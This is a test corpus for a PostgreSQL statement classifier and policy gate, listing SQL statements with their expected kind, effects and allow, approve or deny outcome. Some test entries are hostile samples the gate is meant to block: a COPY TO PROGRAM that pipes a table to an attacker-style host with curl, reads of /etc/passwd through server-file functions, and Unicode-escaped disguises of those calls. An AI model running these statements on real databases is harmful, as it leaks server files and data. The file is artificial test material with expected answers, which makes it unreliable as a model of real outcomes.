## Statement corpus for StatementCorpusTest.
##
## Each case is a header line followed by one statement (one or more lines, no trailing semicolon):
##
##   #> KIND [effects=K1,K2,...] [unbounded] rw=ACTION[@rule] ro=ACTION[@rule]
##
## KIND      the expected Classification.kind
## effects   when given, the exact expected effects (the kind included)
## unbounded the statement (or what it embeds and runs) is an UPDATE/DELETE with no limiting WHERE;
##           when absent, the classification must say bounded
## rw, ro    the expected action (Allow, RequireApproval, Deny) under corpus/rw-policy.yaml and
##           corpus/ro-policy.yaml (the same rules in ReadOnly mode), optionally with the rule that
##           decided after '@'
##
## Lines starting with "##" are comments. Statement lines never start with '#'.
## Every statement here is valid PostgreSQL 15-17 syntax unless its section says otherwise.

## ---------------------------------------------------------------- plain queries
#> SELECT effects=SELECT rw=Allow@defaultAction ro=Allow
SELECT 1
#> SELECT rw=Allow ro=Allow
select * from users where id = 42
#> SELECT rw=Allow ro=Allow
SELECT id, name FROM public.users u
WHERE u.active AND u.created_at > now() - interval '7 days'
ORDER BY u.created_at DESC LIMIT 10 OFFSET 20
#> SELECT rw=Allow ro=Allow
SELECT "User Name", "weird""quote" FROM "My Schema"."My Table"
#> SELECT rw=Allow ro=Allow
SELECT E'it\'s a \\ test', 'plain ''quoted'' string', e'tab\tand \x41'
#> SELECT rw=Allow ro=Allow
SELECT U&'d\0061t\+000061' AS u
#> SELECT rw=Allow ro=Allow
SELECT U&'d!0061t!+000061' UESCAPE '!' AS u
#> SELECT rw=Allow ro=Allow
SELECT $$a dollar 'quoted' string; DROP TABLE users$$ AS s
#> SELECT rw=Allow ro=Allow
SELECT $body$ nested $$ inside; DELETE FROM users $body$ AS s
#> SELECT rw=Allow ro=Allow
SELECT /* a /* nested; DROP TABLE t */ comment */ 1 -- trailing; DROP TABLE t
#> SELECT rw=Allow ro=Allow
SELECT data->'customer'->>'email' FROM orders WHERE data @> '{"status":"paid"}'
#> SELECT rw=Allow ro=Allow
SELECT * FROM docs WHERE tags ?| array['a', 'b']
#> SELECT rw=Allow ro=Allow
SELECT * FROM docs WHERE tags ? 'a' AND tags ?& array['b']
#> SELECT rw=Allow ro=Allow
SELECT data #>> '{a,b}', data #> '{a}', data - 'k' FROM docs
#> SELECT rw=Allow ro=Allow
SELECT jsonb_path_query(data, '$.items[*] ? (@.price > 10)') FROM docs
#> SELECT rw=Allow ro=Allow
SELECT ARRAY[1, 2, 3] || 4, (ARRAY[1, 2, 3])[2], '{1,2}'::int[] @> ARRAY[1]
#> SELECT rw=Allow ro=Allow
SELECT * FROM unnest(ARRAY['a', 'b']) WITH ORDINALITY AS t(v, n)
#> SELECT rw=Allow ro=Allow
SELECT '2024-01-01'::date + 1, CAST('42' AS integer), 3.5::numeric(10, 2), x::text FROM t
#> SELECT rw=Allow ro=Allow
SELECT id, sum(amount) OVER (PARTITION BY customer_id ORDER BY created_at
  ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) FROM payments
#> SELECT rw=Allow ro=Allow
SELECT id, rank() OVER w, lag(amount, 1) OVER w FROM payments
WINDOW w AS (PARTITION BY customer_id ORDER BY amount DESC)
#> SELECT rw=Allow ro=Allow
SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) FROM orders
#> SELECT rw=Allow ro=Allow
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM payments
#> SELECT rw=Allow ro=Allow
SELECT DISTINCT ON (customer_id) customer_id, created_at FROM orders ORDER BY customer_id, created_at DESC
#> SELECT rw=Allow ro=Allow
SELECT u.id, o.total FROM users u
CROSS JOIN LATERAL (SELECT sum(total) AS total FROM orders o WHERE o.user_id = u.id) o
#> SELECT rw=Allow ro=Allow
SELECT * FROM users u
LEFT JOIN LATERAL (SELECT * FROM orders WHERE user_id = u.id ORDER BY id DESC LIMIT 1) last_order ON true
#> SELECT rw=Allow ro=Allow
WITH RECURSIVE tree(id, parent_id, depth) AS (
  SELECT id, parent_id, 0 FROM nodes WHERE parent_id IS NULL
  UNION ALL
  SELECT n.id, n.parent_id, t.depth + 1 FROM nodes n JOIN tree t ON n.parent_id = t.id
) SELECT * FROM tree
#> SELECT rw=Allow ro=Allow
WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 100)
SEARCH DEPTH FIRST BY n SET ordercol
SELECT * FROM t ORDER BY ordercol
#> SELECT rw=Allow ro=Allow
WITH a AS MATERIALIZED (SELECT * FROM big), b AS NOT MATERIALIZED (SELECT 1 AS one) SELECT * FROM a, b
#> SELECT rw=Allow ro=Allow
SELECT * FROM generate_series(1, 10) AS g(i)
#> SELECT rw=Allow ro=Allow
SELECT * FROM users TABLESAMPLE SYSTEM (10) REPEATABLE (42)
#> SELECT rw=Allow ro=Allow
SELECT a, b, count(*) FROM t GROUP BY GROUPING SETS ((a), (b), ())
#> SELECT rw=Allow ro=Allow
SELECT a FROM t UNION SELECT b FROM u EXCEPT SELECT c FROM v
#> SELECT rw=Allow ro=Allow
(SELECT 1) UNION ALL (SELECT 2)
#> SELECT rw=Allow ro=Allow
VALUES (1, 'one'), (2, 'two')
#> SELECT rw=Allow ro=Allow
TABLE users
#> SELECT rw=Allow ro=Allow
SELECT * FROM users ORDER BY score DESC FETCH FIRST 5 ROWS WITH TIES
#> SELECT rw=Allow ro=Allow
SELECT a IS DISTINCT FROM b, c IS NOT DISTINCT FROM d FROM t
#> SELECT rw=Allow ro=Allow
SELECT name COLLATE "C" FROM users ORDER BY name COLLATE "C"
#> SELECT rw=Allow ro=Allow
SELECT now() AT TIME ZONE 'UTC', extract(epoch FROM now())
#> SELECT rw=Allow ro=Allow
SELECT CASE WHEN x > 0 THEN 'pos' WHEN x < 0 THEN 'neg' ELSE 'zero' END FROM t
#> SELECT rw=Allow ro=Allow
SELECT * FROM t WHERE name ILIKE '%foo%' AND name ~* '^ba' AND NOT name SIMILAR TO 'x%'
#> SELECT rw=Allow ro=Allow
SELECT row_to_json(u) FROM users u
#> SELECT rw=Allow ro=Allow
SELECT (SELECT max(id) FROM orders) AS m, EXISTS (SELECT 1 FROM users) AS e
#> SELECT rw=Allow ro=Allow
SELECT pg_sleep(0.1)
#> SELECT rw=Allow ro=Allow
SELECT current_user, session_user, current_setting('search_path')
#> SELECT rw=Allow ro=Allow
SELECT 'a' || 'b', 1 + 2 * 3 % 4, 2 ^ 10, |/ 16.0, @ -5
#> SELECT rw=Allow ro=Allow
SELECT x'1F', b'0101', 1e10, .5, 1_000_000
#> SELECT rw=Allow ro=Allow
SELECT * FROM "order" o JOIN "user" u USING (user_id)
#> SELECT rw=Allow ro=Allow
SELECT count(*) FROM pg_stat_activity
#> SELECT rw=Allow ro=Allow
SELECT 1 FROM t WHERE (a, b) IN ((1, 2), (3, 4))
#> SELECT rw=Allow ro=Allow
SELECT * FROM ROWS FROM (generate_series(1, 3), generate_series(1, 2)) AS t(a, b)
#> SELECT rw=Allow ro=Allow
SELECT xmlelement(name foo, 'bar')
#> SELECT rw=Allow ro=Allow
SELECT string_agg(name, ', ' ORDER BY name) FROM users
#> SELECT rw=Allow ro=Allow
SELECT * FROM t1 NATURAL FULL OUTER JOIN t2
#> SELECT rw=Allow ro=Allow
SELECT id FROM t WHERE ts BETWEEN SYMMETRIC '2024-01-01' AND '2023-01-01'
#> SELECT rw=Allow ro=Allow
SELECT * FROM t WHERE id = ANY('{1,2,3}'::int[]) AND note !~~ '%x%'
#> SELECT rw=Allow ro=Allow
SELECT * FROM t WHERE ts::date = current_date AND num::float8 OPERATOR(pg_catalog.>) 2
#> SELECT rw=Allow ro=Allow
SELECT 'update t set x = 1' AS sql_text, 'drop table users' AS other
#> SELECT rw=Allow ro=Allow
SELECT "delete", "drop" FROM "grant"

## SELECT that writes: row locks and SELECT INTO
#> SELECT effects=SELECT,OTHER rw=Allow ro=Deny@access.mode=ReadOnly
SELECT * FROM jobs WHERE state = 'ready' ORDER BY id LIMIT 1 FOR UPDATE SKIP LOCKED
#> SELECT effects=SELECT,OTHER rw=Allow ro=Deny
SELECT * FROM accounts WHERE id = 1 FOR NO KEY UPDATE
#> SELECT effects=SELECT,OTHER rw=Allow ro=Deny
SELECT * FROM t WHERE a = 1 FOR KEY SHARE OF t NOWAIT
#> SELECT effects=SELECT rw=Allow ro=Allow
SELECT * FROM ONLY t ORDER BY id FETCH FIRST 1 ROWS ONLY
#> SELECT effects=SELECT,CREATE rw=Allow ro=Deny
SELECT * INTO archive_2024 FROM orders WHERE created_at < '2025-01-01'
#> SELECT effects=SELECT,CREATE rw=Allow ro=Deny
SELECT id, name INTO TEMP TABLE scratch FROM users

## dangerous functions
#> SELECT rw=Deny@pgwarden:server-files ro=Deny@pgwarden:server-files
SELECT pg_read_file('/etc/passwd')
#> SELECT rw=Deny ro=Deny
SELECT * FROM pg_ls_dir('.')
#> SELECT rw=Deny ro=Deny
SELECT lo_import('/etc/passwd')
#> SELECT rw=Deny ro=Deny
SELECT lo_export(12345, '/tmp/out')
#> SELECT rw=RequireApproval@pgwarden:server-control ro=RequireApproval
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'bob'
## set_config of a setting named plainly is judged as the SET it is (pg_dump sends such calls).
#> SELECT rw=Allow ro=Allow
SELECT set_config('search_path', 'evil', false)
#> SELECT rw=RequireApproval@pgwarden:settings ro=RequireApproval
SELECT set_config(name, 'x', false) FROM pg_settings
#> SELECT rw=RequireApproval@pgwarden:dynamic-sql ro=RequireApproval
SELECT query_to_xml('select * from secrets', true, false, '')
#> SELECT rw=RequireApproval@pgwarden:other-databases ro=RequireApproval
SELECT * FROM dblink('host=x dbname=y', 'select 1') AS t(a int)
#> SELECT rw=RequireApproval ro=RequireApproval
SELECT dblink_exec('host=x', 'drop table t')
#> SELECT rw=Deny@pgwarden:server-files ro=Deny
SELECT U&"\0070g_read_file"('/etc/passwd')
#> SELECT rw=Deny@pgwarden:server-files ro=Deny
SELECT U&"pg!005Fread!005Ffile" UESCAPE '!' ('/etc/passwd')

## ---------------------------------------------------------------- INSERT
#> INSERT effects=INSERT rw=Allow ro=Deny@access.mode=ReadOnly
INSERT INTO users (name, email) VALUES ('a', 'a@example.com')
#> INSERT rw=Allow ro=Deny
INSERT INTO users VALUES (DEFAULT, 'b') RETURNING id
#> INSERT rw=Allow ro=Deny
INSERT INTO archive SELECT * FROM orders WHERE created_at < now() - interval '1 year'
#> INSERT effects=INSERT,UPDATE rw=Allow ro=Deny
INSERT INTO counters (k, v) VALUES ('x', 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + EXCLUDED.v
#> INSERT effects=INSERT rw=Allow ro=Deny
INSERT INTO counters (k, v) VALUES ('x', 1) ON CONFLICT DO NOTHING
#> INSERT effects=INSERT,UPDATE rw=Allow ro=Deny
INSERT INTO counters AS c (k, v) VALUES ('x', 1)
ON CONFLICT ON CONSTRAINT counters_pkey DO UPDATE SET v = 2 WHERE c.v < 2
#> INSERT rw=Allow ro=Deny
INSERT INTO t (data) VALUES ('{"a": [1, 2]}'::jsonb)
#> INSERT rw=Allow ro=Deny
INSERT INTO t (arr) VALUES (ARRAY['x', 'y']::text[])
#> INSERT rw=Allow ro=Deny
INSERT INTO "Audit Log" ("When", "What") VALUES (now(), E'line1\nline2 \'quoted\'')
#> INSERT rw=Allow ro=Deny
INSERT INTO t DEFAULT VALUES
#> INSERT rw=Allow ro=Deny
INSERT INTO t OVERRIDING SYSTEM VALUE VALUES (1)
#> INSERT effects=INSERT rw=Allow ro=Deny
WITH src AS (SELECT * FROM staging) INSERT INTO t SELECT * FROM src
#> INSERT rw=Allow ro=Deny
INSERT INTO fn_body (src) VALUES ($fn$ BEGIN DELETE FROM users; END $fn$)
#> INSERT rw=Deny@pgwarden:server-files ro=Deny
INSERT INTO t SELECT pg_read_file('/etc/passwd')

## ---------------------------------------------------------------- UPDATE
#> UPDATE effects=UPDATE rw=Allow ro=Deny
UPDATE users SET name = 'x' WHERE id = 1
#> UPDATE unbounded rw=RequireApproval@unbounded-writes ro=Deny@access.mode=ReadOnly
UPDATE users SET name = 'x'
#> UPDATE rw=Allow ro=Deny
UPDATE users SET active = false WHERE last_login < now() - interval '1 year'
#> UPDATE rw=Allow ro=Deny
UPDATE users u SET score = s.score FROM scores s WHERE s.user_id = u.id
#> UPDATE unbounded rw=RequireApproval ro=Deny
UPDATE t SET x = 1 WHERE true
#> UPDATE unbounded rw=RequireApproval ro=Deny
UPDATE t SET x = 1 WHERE 1 = 1
#> UPDATE rw=Allow ro=Deny
UPDATE t SET (a, b) = (1, 2) WHERE id = 3
#> UPDATE rw=Allow ro=Deny
UPDATE t SET a = DEFAULT WHERE id IN (SELECT id FROM u WHERE flag) RETURNING *
#> UPDATE rw=Allow ro=Deny
UPDATE ONLY t SET a = 1 WHERE id = 2
#> UPDATE rw=Allow ro=Deny
UPDATE docs SET data = jsonb_set(data, '{a}', '1') WHERE data ? 'a'
#> UPDATE effects=UPDATE rw=Allow ro=Deny
WITH x AS (SELECT id FROM u) UPDATE t SET a = 1 WHERE id IN (SELECT id FROM x)
#> UPDATE rw=Allow ro=Deny
UPDATE t SET a = 1 WHERE CURRENT OF c
#> UPDATE unbounded rw=RequireApproval ro=Deny
UPDATE t SET a = 1 WHERE id + 1 = id + 1
#> UPDATE unbounded rw=RequireApproval ro=Deny
UPDATE t SET a = 1 WHERE id + 1 = id + 2
#> UPDATE unbounded rw=RequireApproval ro=Deny
UPDATE "Mixed Case" SET "Flag" = true WHERE "Flag" IS NOT NULL

## ---------------------------------------------------------------- DELETE
#> DELETE effects=DELETE rw=Allow ro=Deny
DELETE FROM sessions WHERE expires_at < now()
#> DELETE unbounded rw=RequireApproval@unbounded-writes ro=Deny
DELETE FROM sessions
#> DELETE rw=Allow ro=Deny
DELETE FROM t USING u WHERE t.uid = u.id AND u.banned
#> DELETE rw=Allow ro=Deny
DELETE FROM t WHERE id = 5 RETURNING *
#> DELETE rw=Allow ro=Deny
DELETE FROM ONLY t WHERE id = 5
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE 'a' = 'a'
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE NOT false
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE id = id
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE x IS NOT NULL
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE EXISTS (SELECT 1)
#> DELETE rw=Allow ro=Deny
DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.id = t.uid)
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE id > 0 OR true
#> DELETE rw=Allow ro=Deny
DELETE FROM "Weird Table" WHERE "Id" = 3
#> DELETE rw=Allow ro=Deny
DELETE FROM t WHERE id = 1 AND 1 = 1
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE id = 1 OR 1 = 1
#> DELETE rw=Allow ro=Deny
DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.id = t.uid)
#> DELETE rw=Allow ro=Deny
DELETE FROM t AS x WHERE EXISTS (SELECT 1 FROM u WHERE u.id = x.uid)
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE EXISTS (SELECT 1 FROM t WHERE t.id = t.id)
#> DELETE unbounded rw=RequireApproval ro=Deny
DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.flag)

## data-modifying CTEs
#> SELECT effects=SELECT,DELETE unbounded rw=RequireApproval@unbounded-writes ro=Deny
WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
#> INSERT effects=INSERT,DELETE rw=Allow ro=Deny
WITH moved AS (DELETE FROM queue WHERE id = 1 RETURNING *) INSERT INTO done SELECT * FROM moved
#> SELECT effects=SELECT,UPDATE unbounded rw=RequireApproval ro=Deny
WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u
#> SELECT effects=SELECT,INSERT rw=Allow ro=Deny
WITH i AS (INSERT INTO log (m) VALUES ('x') RETURNING id) SELECT id FROM i
#> DELETE effects=DELETE,UPDATE unbounded rw=RequireApproval ro=Deny
WITH up AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) DELETE FROM u
#> SELECT effects=SELECT,DELETE unbounded rw=RequireApproval ro=Deny
(WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d)
#> SELECT effects=SELECT,DELETE,CREATE unbounded rw=RequireApproval ro=Deny
WITH d AS (DELETE FROM t RETURNING *) SELECT * INTO kept FROM d
#> CREATE effects=CREATE,SELECT,DELETE unbounded rw=RequireApproval ro=Deny
CREATE TABLE gone AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d
#> CREATE effects=CREATE,SELECT,UPDATE rw=Allow ro=Deny
CREATE TABLE IF NOT EXISTS changed (id) AS WITH u AS (UPDATE t SET a = 1 WHERE id = 3 RETURNING id) SELECT id FROM u WITH NO DATA
#> CREATE rw=RequireApproval@onUnparseable ro=Deny
CREATE TABLE t3 AS EXECUTE q

## ---------------------------------------------------------------- MERGE
#> MERGE effects=MERGE,UPDATE,INSERT rw=Allow ro=Deny
MERGE INTO target t USING source s ON t.id = s.id
WHEN MATCHED THEN UPDATE SET v = s.v
WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)
#> MERGE effects=MERGE,DELETE rw=Allow ro=Deny
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE
#> MERGE effects=MERGE,DELETE unbounded rw=RequireApproval ro=Deny
MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE
#> MERGE effects=MERGE,INSERT rw=Allow ro=Deny
MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v) WHEN MATCHED THEN DO NOTHING
#> MERGE effects=MERGE,DELETE unbounded rw=RequireApproval ro=Deny
MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
#> MERGE effects=MERGE,UPDATE rw=Allow ro=Deny
MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v RETURNING merge_action(), t.*
#> MERGE effects=MERGE,UPDATE,DELETE rw=Allow ro=Deny
WITH src AS (SELECT * FROM s) MERGE INTO t USING src ON t.id = src.id
WHEN MATCHED AND src.v IS NULL THEN DELETE WHEN MATCHED THEN UPDATE SET v = src.v

## ---------------------------------------------------------------- COPY
#> COPY_TO effects=COPY_TO rw=Allow ro=Allow
COPY users TO STDOUT
#> COPY_TO rw=Allow ro=Allow
COPY users (id, name) TO STDOUT WITH (FORMAT csv, HEADER true)
#> COPY_TO effects=COPY_TO,SELECT rw=Allow ro=Allow
COPY (SELECT * FROM users WHERE active) TO STDOUT WITH CSV HEADER
#> COPY_TO rw=Allow ro=Allow
COPY public."Odd Name" TO STDOUT (FORMAT binary)
#> COPY_TO rw=Allow ro=Allow
COPY users TO STDOUT WITH DELIMITER '|'
#> COPY_FROM effects=COPY_FROM,INSERT rw=Allow ro=Deny
COPY users FROM STDIN
#> COPY_FROM rw=Allow ro=Deny
COPY users (id, name) FROM STDIN WITH (FORMAT csv, DELIMITER ';', NULL '')
#> COPY_FROM rw=Allow ro=Deny
COPY users FROM STDIN WHERE id > 100
#> COPY_TO rw=Deny@pgwarden:server-files ro=Deny@pgwarden:server-files
COPY users TO '/tmp/users.csv'
#> COPY_FROM rw=Deny ro=Deny
COPY users FROM '/etc/passwd'
#> COPY_TO rw=Deny@pgwarden:server-programs ro=Deny@pgwarden:server-programs
COPY users TO PROGRAM 'curl -d @- http://evil.example'
#> COPY_FROM rw=Deny@pgwarden:server-programs ro=Deny
COPY users FROM PROGRAM 'cat /etc/passwd'
#> COPY_TO rw=Deny ro=Deny
COPY (SELECT 1) TO PROGRAM 'id'
#> COPY_TO effects=COPY_TO,DELETE unbounded rw=RequireApproval ro=Deny
COPY (DELETE FROM users RETURNING *) TO STDOUT
#> COPY_TO effects=COPY_TO,UPDATE rw=Allow ro=Deny
COPY (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) TO STDOUT

## ---------------------------------------------------------------- CREATE
#> CREATE effects=CREATE rw=Allow ro=Deny
CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, name text NOT NULL, created_at timestamptz DEFAULT now())
#> CREATE rw=Allow ro=Deny
CREATE TABLE IF NOT EXISTS "Audit Log" ("When" timestamptz, "What" text)
#> CREATE rw=Allow ro=Deny
CREATE TEMP TABLE scratch AS SELECT * FROM users WHERE false
#> CREATE rw=Allow ro=Deny
CREATE UNLOGGED TABLE fast (k text PRIMARY KEY, v jsonb)
#> CREATE rw=Allow ro=Deny
CREATE TABLE measurements (ts timestamptz, v float8) PARTITION BY RANGE (ts)
#> CREATE rw=Allow ro=Deny
CREATE TABLE m2024 PARTITION OF measurements FOR VALUES FROM ('2024-01-01') TO ('2025-01-01')
#> CREATE rw=Allow ro=Deny
CREATE INDEX CONCURRENTLY idx_users_email ON users (lower(email)) WHERE deleted_at IS NULL
#> CREATE rw=Allow ro=Deny
CREATE UNIQUE INDEX ON t USING btree (a, b) INCLUDE (c)
#> CREATE rw=Allow ro=Deny
CREATE VIEW active_users AS SELECT * FROM users WHERE active
#> CREATE rw=Allow ro=Deny
CREATE OR REPLACE VIEW v AS SELECT 1 AS x
#> CREATE rw=Allow ro=Deny
CREATE MATERIALIZED VIEW mv AS SELECT customer_id, sum(total) FROM orders GROUP BY 1 WITH NO DATA
#> CREATE rw=Allow ro=Deny
CREATE SEQUENCE s START 100 INCREMENT BY 5
#> CREATE rw=Allow ro=Deny
CREATE SCHEMA IF NOT EXISTS reporting
#> CREATE rw=Allow ro=Deny
CREATE TYPE mood AS ENUM ('sad', 'ok', 'happy')
#> CREATE rw=Allow ro=Deny
CREATE DOMAIN posint AS integer CHECK (VALUE > 0)
#> CREATE rw=Allow ro=Deny
CREATE EXTENSION IF NOT EXISTS pgcrypto
#> CREATE rw=Allow ro=Deny
CREATE FUNCTION add(a integer, b integer) RETURNS integer LANGUAGE sql IMMUTABLE AS 'select a + b'
#> CREATE rw=Allow ro=Deny
CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  NEW.updated_at := now();
  RETURN NEW;
END;
$$
#> CREATE rw=Allow ro=Deny
CREATE FUNCTION f(x int) RETURNS int LANGUAGE plpgsql AS $fn$
DECLARE y int := 0;
BEGIN
  -- a comment; with a semicolon and a 'quote
  IF x > 0 THEN y := x; END IF;
  RETURN y;
END
$fn$
#> CREATE rw=Allow ro=Deny
CREATE FUNCTION g(a int) RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT a + 1; SELECT a + 2; END
## Creating code is judged by what its body does (read whole here): an unbounded DELETE.
#> CREATE unbounded rw=RequireApproval@unbounded-writes ro=Deny
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$
#> CREATE rw=Deny@pgwarden:server-files ro=Deny
CREATE FUNCTION leak() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$
## Triggers, rules, policies and event triggers plant code other statements run: every kind of write.
#> CREATE rw=Deny@privileges ro=Deny
CREATE TRIGGER trg BEFORE UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch()
#> CREATE rw=Deny@privileges ro=Deny
CREATE TRIGGER audit AFTER INSERT OR DELETE ON orders REFERENCING NEW TABLE AS newrows
FOR EACH STATEMENT EXECUTE PROCEDURE audit_fn()
#> CREATE rw=Deny@privileges ro=Deny
CREATE POLICY tenant_isolation ON orders USING (tenant_id = current_setting('app.tenant')::int)
#> CREATE rw=Deny@privileges ro=Deny
CREATE POLICY p_insert ON orders FOR INSERT TO app_user WITH CHECK (owner = current_user)
#> CREATE rw=Deny@privileges ro=Deny
CREATE RULE r AS ON DELETE TO t DO INSTEAD NOTHING
#> CREATE rw=Allow ro=Deny
CREATE USER MAPPING FOR CURRENT_USER SERVER remote OPTIONS (user 'x', password 'y')
#> CREATE rw=Allow ro=Deny
CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h')
#> CREATE rw=Allow ro=Deny
CREATE TABLE copy_of AS TABLE users WITH NO DATA
#> CREATE rw=Allow ro=Deny
CREATE PUBLICATION pub FOR TABLE users
#> CREATE rw=Allow ro=Deny
CREATE COLLATION ci (provider = icu, locale = 'und-u-ks-level2', deterministic = false)
#> CREATE rw=Allow ro=Deny
CREATE STATISTICS st (dependencies) ON a, b FROM t
#> CREATE rw=Deny@privileges ro=Deny
CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()
#> CREATE rw=Allow ro=Deny
IMPORT FOREIGN SCHEMA public FROM SERVER remote INTO staging

## ---------------------------------------------------------------- ALTER (destructive-ddl)
#> ALTER effects=ALTER rw=RequireApproval@destructive-ddl ro=Deny@access.mode=ReadOnly
ALTER TABLE users ADD COLUMN phone text
#> ALTER rw=RequireApproval ro=Deny
ALTER TABLE users DROP COLUMN phone
#> ALTER rw=RequireApproval ro=Deny
ALTER TABLE IF EXISTS ONLY users RENAME TO customers
#> ALTER rw=RequireApproval ro=Deny
ALTER TABLE orders ENABLE ROW LEVEL SECURITY
#> ALTER rw=RequireApproval ro=Deny
ALTER TABLE orders FORCE ROW LEVEL SECURITY
#> ALTER rw=RequireApproval ro=Deny
ALTER INDEX idx RENAME TO idx2
#> ALTER rw=RequireApproval ro=Deny
ALTER SEQUENCE s RESTART WITH 1
#> ALTER rw=RequireApproval ro=Deny
ALTER VIEW v OWNER TO someone
## Changing code (here, whose privileges it runs with) counts as every kind of write.
#> ALTER rw=Deny@privileges ro=Deny
ALTER FUNCTION f(int) SECURITY DEFINER
#> ALTER rw=Deny@privileges ro=Deny
ALTER POLICY tenant_isolation ON orders USING (true)
#> ALTER rw=RequireApproval ro=Deny
ALTER DATABASE app SET default_transaction_read_only = off
#> ALTER rw=RequireApproval ro=Deny
ALTER SYSTEM SET max_connections = 500
#> ALTER effects=ALTER,GRANT rw=Deny@privileges ro=Deny
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO reporting
#> ALTER effects=ALTER,REVOKE rw=Deny@privileges ro=Deny
ALTER DEFAULT PRIVILEGES FOR ROLE admin REVOKE ALL ON FUNCTIONS FROM PUBLIC
#> ALTER rw=RequireApproval ro=Deny
ALTER EXTENSION pgcrypto UPDATE
#> ALTER rw=RequireApproval ro=Deny
ALTER TYPE mood ADD VALUE 'ecstatic'
#> ALTER rw=RequireApproval ro=Deny
COMMENT ON TABLE users IS 'people'
#> ALTER rw=RequireApproval ro=Deny
COMMENT ON COLUMN users.email IS E'it\'s private'
#> ALTER rw=RequireApproval ro=Deny
SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0'

## ---------------------------------------------------------------- DROP and TRUNCATE
#> DROP effects=DROP rw=RequireApproval@destructive-ddl ro=Deny
DROP TABLE users
#> DROP rw=RequireApproval ro=Deny
DROP TABLE IF EXISTS a, b CASCADE
#> DROP rw=RequireApproval ro=Deny
DROP INDEX CONCURRENTLY IF EXISTS idx
#> DROP rw=RequireApproval ro=Deny
DROP VIEW v
#> DROP rw=RequireApproval ro=Deny
DROP MATERIALIZED VIEW mv
#> DROP rw=RequireApproval ro=Deny
DROP SCHEMA reporting CASCADE
#> DROP rw=RequireApproval ro=Deny
DROP FUNCTION IF EXISTS f(int)
#> DROP rw=RequireApproval ro=Deny
DROP POLICY tenant_isolation ON orders
#> DROP rw=RequireApproval ro=Deny
DROP TRIGGER trg ON users
#> DROP rw=RequireApproval ro=Deny
DROP EXTENSION pgcrypto
#> DROP rw=RequireApproval ro=Deny
DROP TYPE mood
#> DROP rw=RequireApproval ro=Deny
DROP OWNED BY someone
#> DROP rw=RequireApproval ro=Deny
DROP USER MAPPING FOR CURRENT_USER SERVER remote
#> DROP rw=RequireApproval ro=Deny
DROP DATABASE other
#> DROP rw=RequireApproval ro=Deny
DROP TABLE "Users"
#> TRUNCATE effects=TRUNCATE rw=RequireApproval@destructive-ddl ro=Deny
TRUNCATE users
#> TRUNCATE rw=RequireApproval ro=Deny
TRUNCATE TABLE a, b RESTART IDENTITY CASCADE
#> TRUNCATE rw=RequireApproval ro=Deny
TRUNCATE ONLY public.logs

## ---------------------------------------------------------------- privileges and roles
#> GRANT effects=GRANT rw=Deny@privileges ro=Deny
GRANT SELECT ON users TO analyst
#> GRANT rw=Deny ro=Deny
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO app
#> GRANT rw=Deny ro=Deny
GRANT admin TO bob WITH ADMIN OPTION
#> REVOKE rw=Deny@privileges ro=Deny
REVOKE INSERT ON users FROM PUBLIC
#> REVOKE rw=Deny ro=Deny
REVOKE ALL ON SCHEMA public FROM analyst CASCADE
#> CREATE_ROLE effects=CREATE_ROLE rw=Deny@privileges ro=Deny
CREATE ROLE analyst NOLOGIN
#> CREATE_ROLE rw=Deny ro=Deny
CREATE USER bob WITH PASSWORD 'secret' VALID UNTIL '2030-01-01'
#> CREATE_ROLE rw=Deny ro=Deny
CREATE GROUP devs
#> ALTER_ROLE rw=Deny@privileges ro=Deny
ALTER ROLE bob SUPERUSER
#> ALTER_ROLE rw=Deny ro=Deny
ALTER USER bob WITH PASSWORD 'x'
#> ALTER_ROLE rw=Deny ro=Deny
ALTER ROLE bob SET search_path = public
#> ALTER_ROLE rw=Deny ro=Deny
ALTER GROUP devs ADD USER bob
#> DROP_ROLE rw=Deny@privileges ro=Deny
DROP ROLE IF EXISTS analyst
#> DROP_ROLE rw=Deny ro=Deny
DROP USER bob
